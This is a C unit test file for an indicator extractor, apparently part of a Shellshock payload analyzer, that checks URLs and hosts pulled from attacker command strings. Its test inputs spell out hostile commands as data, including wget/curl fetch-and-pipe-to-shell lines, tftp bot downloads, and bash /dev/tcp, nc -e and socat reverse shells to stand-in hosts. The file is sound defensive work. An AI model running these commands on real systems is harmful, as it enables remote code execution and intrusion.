/*
 * test_ioc.c - indicators, GRADING.md §6.
 *
 * Each row: command text, the shellshock.url values and the
 * shellshock.host values it must give (comma-separated, in order).
 */
#include <stdlib.h>

#include "ss.h"
#include "unit.h"

static ss_rules_t *rules;
static ss_arena_t arena;


static void analyze(const char *text, size_t len, ss_payload_t *p)
{
    if (!rules) {
        rules = ss_rules_new();
        ss_arena_init(&arena);
    }
    memset(p, 0, sizeof(*p));
    ss_analyze_commands(rules, text, len, p, &arena);
}

typedef struct {
    const char *text;
    const char *urls;
    const char *hosts;
} ioc_case_t;

static void check_iocs(const ioc_case_t *cases, size_t n)
{
    char ub[4096], hb[4096];
    for (size_t i = 0; i < n; i++) {
        ss_payload_t p;
        analyze(cases[i].text, strlen(cases[i].text), &p);
        const char *u = hs_join(p.urls, p.n_urls, ub, sizeof(ub));
        const char *h = hs_join(p.hosts, p.n_hosts, hb, sizeof(hb));
        if (strcmp(u, cases[i].urls) || strcmp(h, cases[i].hosts))
            fprintf(stderr, "\n  input: %s", cases[i].text);
        HS_ASSERT_STR(u, cases[i].urls);
        HS_ASSERT_STR(h, cases[i].hosts);
        CU_ASSERT_FALSE(p.problems & SS_PROB_IOCS_TRUNCATED);
        ss_arena_reset(&arena);
    }
}

#define CHECK_IOCS(cases) check_iocs(cases, sizeof(cases) / sizeof(cases[0]))

static void test_scheme_urls(void)
{
    static const ioc_case_t cases[] = {
        {"wget http://1.2.3.4/bins.sh", "http://1.2.3.4/bins.sh", "1.2.3.4"},
        {"curl -s https://evil.example:8443/a?b=c", "https://evil.example:8443/a?b=c",
         "evil.example"},
        {"x ftp://u:p@ftp.example/f", "ftp://u:p@ftp.example/f", "ftp.example"},
        {"x tftp://10.0.0.1/x86", "tftp://10.0.0.1/x86", "10.0.0.1"},
        {"x HTTP://Upper.Example/X", "HTTP://Upper.Example/X", "Upper.Example"},
        {"x HtTpS://a.b", "HtTpS://a.b", "a.b"},
        /* where a URL ends */
        {"echo 'http://a.b/x' ", "http://a.b/x", "a.b"},
        {"echo \"http://a.b/x\"", "http://a.b/x", "a.b"},
        {"echo `echo http://a.b/x`", "http://a.b/x", "a.b"},
        {"echo http://a.b/x\\;y", "http://a.b/x", "a.b"},
        {"wget http://a.b/x;id", "http://a.b/x", "a.b"},
        {"wget http://a.b/x|sh", "http://a.b/x", "a.b"},
        {"wget http://a.b/x&&id", "http://a.b/x", "a.b"},
        {"wget http://a.b/x>f", "http://a.b/x", "a.b"},
        {"wget http://a.b/x<f", "http://a.b/x", "a.b"},
        {"(wget http://a.b/x)", "http://a.b/x", "a.b"},
        {"wget http://a.b/x\ty", "http://a.b/x", "a.b"},
        {"wget http://a.b/x?a=1&b=2", "http://a.b/x?a=1", "a.b"},
        /* anywhere: echoed text, interpreter code, comments */
        {"echo get http://a.b/e > x", "http://a.b/e", "a.b"},
        {"python -c \"import urllib;urllib.urlretrieve('http://p.y/s','/tmp/s')\"",
         "http://p.y/s", "p.y"},
        {"perl -e 'system(\"wget http://p.l/x\")'", "http://p.l/x", "p.l"},
        {"id # http://c.o/m", "http://c.o/m", "c.o"},
        /* not URLs */
        {"echo http://", "", ""},
        {"echo xhttp://a.b/", "", ""},
        {"echo gopher://a.b/", "", ""},
        {"echo http:/a.b", "", ""},
        /* userinfo, port, IPv6 */
        {"x http://user:pw@h.example:81/p", "http://user:pw@h.example:81/p", "h.example"},
        {"x http://[2001:db8::1]:8080/p", "http://[2001:db8::1]:8080/p", "2001:db8::1"},
        {"x http://h.example?q", "http://h.example?q", "h.example"},
        {"x http://h.example#f", "http://h.example#f", "h.example"},
        /* each value once, in order */
        {"wget http://b.b/1; wget http://a.a/2; curl http://b.b/1",
         "http://b.b/1,http://a.a/2", "b.b,a.a"},
        {"wget http://h.h/1 http://h.h/2", "http://h.h/1,http://h.h/2", "h.h"},
        /* a URL inside a URL */
        {"x http://a.a/?u=http://b.b/", "http://a.a/?u=http://b.b/,http://b.b/", "a.a,b.b"},
        /* in a bash -c string and eval */
        {"bash -c 'wget http://n.n/x'", "http://n.n/x", "n.n"},
        {"eval wget http://e.e/x", "http://e.e/x", "e.e"},
    };
    CHECK_IOCS(cases);
}

static void test_download_args(void)
{
    static const ioc_case_t cases[] = {
        {"wget 1.2.3.4/bins.sh", "http://1.2.3.4/bins.sh", "1.2.3.4"},
        {"wget 1.2.3.4:8080/a", "http://1.2.3.4:8080/a", "1.2.3.4"},
        {"wget evil.example", "http://evil.example", "evil.example"},
        {"curl -fsSL x.y/s | sh", "http://x.y/s", "x.y"},
        {"wget -O x.sh 1.2.3.4/x", "http://1.2.3.4/x", "1.2.3.4"},
        {"wget -Ox.sh 1.2.3.4/x", "http://1.2.3.4/x", "1.2.3.4"},
        {"wget -qO- 1.2.3.4/x", "http://1.2.3.4/x", "1.2.3.4"},
        {"wget -qO - 1.2.3.4/x", "http://1.2.3.4/x", "1.2.3.4"},
        {"wget -o log.txt -P /tmp -U ua.x -e robots=off a.b/c", "http://a.b/c", "a.b"},
        {"wget --header Host.h a.b/c", "http://a.b/c", "a.b"},
        {"wget --header=Host.h a.b/c", "http://a.b/c", "a.b"},
        {"wget --user-agent ua.x a.b/c", "http://a.b/c", "a.b"},
        {"curl -o f.sh -A ua.x -H h.x -d d.x -u u.x -x p.x -e r.x -b c.x -c j.x -X M.X -m 5 "
         "a.b/c",
         "http://a.b/c", "a.b"},
        {"curl --header h.x --user-agent u.x a.b/c", "http://a.b/c", "a.b"},
        {"curl -- a.b/c", "http://a.b/c", "a.b"},
        {"wget http://a.b/c", "http://a.b/c", "a.b"},
        {"busybox wget a.b/c", "http://a.b/c", "a.b"},
        {"wget localhost:8080/x", "http://localhost:8080/x", "localhost"},
        {"wget [::1]:80/x", "http://[::1]:80/x", "::1"},
        /* not host-shaped */
        {"wget x86", "", ""},
        {"wget $SRV/x", "", ""},
        {"wget a.b:port/x", "", ""},
        {"wget .a.b", "", ""},
        {"wget -", "", ""},
        {"echo a.b/c", "", ""}, /* only wget and curl */
    };
    CHECK_IOCS(cases);
}

static void test_tftp_ftpget(void)
{
    static const ioc_case_t cases[] = {
        {"tftp -g -r x86 1.2.3.4", "tftp://1.2.3.4/x86", "1.2.3.4"},
        {"tftp -r x86 -g 1.2.3.4", "tftp://1.2.3.4/x86", "1.2.3.4"},
        {"tftp 1.2.3.4 -g -r x86", "tftp://1.2.3.4/x86", "1.2.3.4"},
        {"tftp -g -r x86 -l y 1.2.3.4 69", "tftp://1.2.3.4/x86", "1.2.3.4"},
        {"tftp -gr x86 1.2.3.4", "tftp://1.2.3.4/x86", "1.2.3.4"},
        {"busybox tftp -g -r mips 5.6.7.8", "tftp://5.6.7.8/mips", "5.6.7.8"},
        {"tftp 1.2.3.4 -c get x86", "tftp://1.2.3.4/x86", "1.2.3.4"},
        {"tftp -r x86 1.2.3.4", "", ""}, /* no -g */
        {"tftp -g 1.2.3.4", "", ""},     /* no -r */
        {"tftp -g -r x86", "", ""},      /* no host */
        {"ftpget 1.2.3.4 local.bin remote.bin", "ftp://1.2.3.4/remote.bin", "1.2.3.4"},
        {"ftpget -P 2121 -u a -p b 1.2.3.4 l /pub/r", "ftp://1.2.3.4:2121/pub/r", "1.2.3.4"},
        {"ftpget -v h.example x", "ftp://h.example/x", "h.example"},
        {"ftpget h.example", "", ""},
    };
    CHECK_IOCS(cases);
}

static void test_hosts(void)
{
    static const ioc_case_t cases[] = {
        {"/bin/ping -c1 10.246.50.2", "", "10.246.50.2"},
        {"ping -c 3 -W 1 host.example", "", "host.example"},
        {"ping6 ::1", "", "::1"},
        {"traceroute -m 5 -w 2 t.example", "", "t.example"},
        {"tracepath -l 100 p.example", "", "p.example"},
        {"nslookup -type=mx n.example 8.8.8.8", "", "n.example"},
        {"dig @8.8.8.8 d.example +short", "", "d.example"},
        {"dig +short -t A d.example", "", "d.example"},
        {"dig -x 1.2.3.4", "", "1.2.3.4"},
        {"dig -x1.2.3.4", "", "1.2.3.4"},
        {"ping -c1 -I eth0 p.p", "", "p.p"},
        {"host -t mx h.example", "", "h.example"},
        {"ping $(echo x)", "", "$(echo x)"}, /* as written */
        {"ping", "", ""},
        {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "", "10.0.0.1"},
        {"exec 5<>/dev/tcp/h.example/443", "", "h.example"},
        {"echo x > /dev/udp/9.9.9.9/53", "", "9.9.9.9"},
        {"echo '/dev/tcp/1.1.1.1/80'", "", "1.1.1.1"}, /* anywhere */
        {"x=/dev/tcp/$H/$P", "", "$H"},
        {"nc 1.2.3.4 4444 -e /bin/sh", "", "1.2.3.4"},
        {"nc -e /bin/sh 1.2.3.4 4444", "", "1.2.3.4"},
        {"ncat --sh-exec x 1.2.3.4 80", "", "1.2.3.4"},
        {"netcat -w 3 n.example 80", "", "n.example"},
        {"nc -lvp 4444", "", ""},
        {"nc -l 4444", "", ""},
        {"ncat --listen 4444", "", ""},
        {"telnet t.example 23", "", "t.example"},
        {"telnet -l root t.example", "", "t.example"},
        {"socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444", "", "10.0.0.1"},
        {"socat - TCP4:s.example:80", "", "s.example"},
        {"socat - tcp6:[::1]:80", "", "::1"},
        {"socat - TCP-CONNECT:c.example:1", "", "c.example"},
        {"socat - UDP:u.example:53", "", "u.example"},
        {"socat - udp4-sendto:u.example:53", "", "u.example"},
        {"socat - OPENSSL:o.example:443,verify=0", "", "o.example"},
        {"socat TCP-LISTEN:80 -", "", ""},
        {"socat UDP-LISTEN:53 -", "", ""},
        {"socat - FILE:/x", "", ""},
        /* URL hosts and command hosts together, once each, in order */
        {"ping a.a; wget http://a.a/x; ping b.b", "http://a.a/x", "a.a,b.b"},
    };
    CHECK_IOCS(cases);
}

static void test_order(void)
{
    /* Scheme-less and scheme URLs interleaved keep their textual order. */
    static const ioc_case_t cases[] = {
        {"wget 1.1.1.1/a http://2.2.2.2/b", "http://1.1.1.1/a,http://2.2.2.2/b",
         "1.1.1.1,2.2.2.2"},
        {"echo http://z.z/ $(wget http://a.a/)", "http://z.z/,http://a.a/", "z.z,a.a"},
        {"wget a.a/1; bash -c 'wget b.b/2'; wget c.c/3", "http://a.a/1,http://b.b/2,http://c.c/3",
         "a.a,b.b,c.c"},
    };
    CHECK_IOCS(cases);
}

static void test_caps(void)
{
    char *text = malloc(64 * 40 + 1);
    size_t k = 0;
    for (int i = 0; i < 40; i++)
        k += (size_t)sprintf(text + k, "wget http://h%d.example/x; ", i);
    ss_payload_t p;
    analyze(text, k, &p);
    CU_ASSERT_EQUAL(p.n_urls, SS_MAX_IOCS);
    CU_ASSERT_EQUAL(p.n_hosts, SS_MAX_IOCS);
    CU_ASSERT(p.problems & SS_PROB_IOCS_TRUNCATED);
    HS_ASSERT_STR(p.urls[0], "http://h0.example/x");
    HS_ASSERT_STR(p.urls[31], "http://h31.example/x");
    free(text);
    ss_arena_reset(&arena);

    /* 32 distinct plus repeats: no truncation. */
    text = malloc(64 * 64 + 1);
    k = 0;
    for (int i = 0; i < 64; i++)
        k += (size_t)sprintf(text + k, "wget http://h%d.example/x; ", i % 32);
    analyze(text, k, &p);
    CU_ASSERT_EQUAL(p.n_urls, SS_MAX_IOCS);
    CU_ASSERT_FALSE(p.problems & SS_PROB_IOCS_TRUNCATED);
    free(text);
    ss_arena_reset(&arena);

    /* Thousands of candidates arriving out of textual order (the raw scan
     * first, the wget operands later): still the first 32 in text order. */
    text = malloc(40 * 3000 + 8);
    k = (size_t)sprintf(text, "wget");
    for (int i = 0; i < 3000; i++)
        k += (size_t)sprintf(text + k, " a%d.a/x http://b%d.b/", i, i);
    analyze(text, k, &p);
    CU_ASSERT_EQUAL(p.n_urls, SS_MAX_IOCS);
    CU_ASSERT_EQUAL(p.n_hosts, SS_MAX_IOCS);
    CU_ASSERT(p.problems & SS_PROB_IOCS_TRUNCATED);
    HS_ASSERT_STR(p.urls[0], "http://a0.a/x");
    HS_ASSERT_STR(p.urls[1], "http://b0.b/");
    HS_ASSERT_STR(p.urls[30], "http://a15.a/x");
    HS_ASSERT_STR(p.urls[31], "http://b15.b/");
    HS_ASSERT_STR(p.hosts[0], "a0.a");
    HS_ASSERT_STR(p.hosts[31], "b15.b");
    free(text);
    ss_arena_reset(&arena);

    /* Thousands of repeats of few values: nothing is cut. */
    text = malloc(16 * 10000 + 1);
    k = 0;
    for (int i = 0; i < 10000; i++)
        k += (size_t)sprintf(text + k, "ping h%d.h; ", i % 5);
    analyze(text, k, &p);
    CU_ASSERT_EQUAL(p.n_hosts, 5);
    CU_ASSERT_FALSE(p.problems & SS_PROB_IOCS_TRUNCATED);
    free(text);
    ss_arena_reset(&arena);

    /* One URL longer than SS_MAX_IOC_LEN: cut and flagged. */
    size_t n = SS_MAX_IOC_LEN + 100;
    text = malloc(n + 1);
    memcpy(text, "wget http://a.b/", 16);
    memset(text + 16, 'x', n - 16);
    analyze(text, n, &p);
    CU_ASSERT_EQUAL(p.n_urls, 1);
    CU_ASSERT_EQUAL(strlen(p.urls[0]), SS_MAX_IOC_LEN);
    CU_ASSERT(p.problems & SS_PROB_IOCS_TRUNCATED);
    free(text);
    ss_arena_reset(&arena);

    /* A long host is cut as well. */
    n = SS_MAX_IOC_LEN + 50;
    text = malloc(n + 1);
    memcpy(text, "ping ", 5);
    memset(text + 5, 'h', n - 5);
    analyze(text, n, &p);
    CU_ASSERT_EQUAL(p.n_hosts, 1);
    CU_ASSERT_EQUAL(strlen(p.hosts[0]), SS_MAX_IOC_LEN);
    CU_ASSERT(p.problems & SS_PROB_IOCS_TRUNCATED);
    free(text);
    ss_arena_reset(&arena);
}

static void test_hostile(void)
{
    /* 100k nested URLs in one token: the output is capped (how much work
     * it takes is not measured here: ss_ioc.c has no work counter). */
    size_t n = 7 * 100000;
    char *text = malloc(n);
    for (size_t i = 0; i < n; i += 7)
        memcpy(text + i, "http://", 7);
    ss_payload_t p;
    analyze(text, n, &p);
    CU_ASSERT(p.n_urls >= 1 && p.n_urls <= SS_MAX_IOCS);
    for (size_t i = 0; i < p.n_urls; i++)
        CU_ASSERT(strlen(p.urls[i]) <= SS_MAX_IOC_LEN);
    CU_ASSERT(p.problems & SS_PROB_IOCS_TRUNCATED);
    free(text);
    ss_arena_reset(&arena);
    /* Text ending right after a scheme or /dev/tcp/, exact size. */
    static const char *const cut[] = {"http:", "http:/", "http://", "x /dev/tcp/", "/dev/tcp/h",
                                      "wget", "wget -O", "tftp -r", "ftpget -P", "socat tcp:",
                                      "socat tcp:[", "dig -x", "nc -e", "ping -c"};
    for (size_t i = 0; i < sizeof(cut) / sizeof(cut[0]); i++) {
        size_t k = strlen(cut[i]);
        char *exact = malloc(k);
        memcpy(exact, cut[i], k);
        analyze(exact, k, &p);
        free(exact);
        ss_arena_reset(&arena);
    }
    /* A NUL inside an option word is no option letter. */
    static const char nul_opt[] = "socat '-\0' tcp:h.h:1";
    analyze(nul_opt, sizeof(nul_opt) - 1, &p);
    CU_ASSERT_EQUAL(p.n_hosts, 1);
    ss_arena_reset(&arena);
    /* A NUL inside a quoted argument: not shown as an indicator. */
    static const char nul[] = "ping 'a\0b'";
    analyze(nul, sizeof(nul) - 1, &p);
    CU_ASSERT_EQUAL(p.n_hosts, 0);
    ss_arena_reset(&arena);
}

static CU_TestInfo tests[] = {
    {"scheme:// URLs anywhere", test_scheme_urls},
    {"wget/curl arguments without a scheme", test_download_args},
    {"tftp and ftpget", test_tftp_ftpget},
    {"hosts: ping & co, /dev/tcp, nc, telnet, socat", test_hosts},
    {"textual order", test_order},
    {"SS_MAX_IOCS and SS_MAX_IOC_LEN", test_caps},
    {"hostile input", test_hostile},
    CU_TEST_INFO_NULL,
};

HS_UNIT_MAIN("ioc", tests)
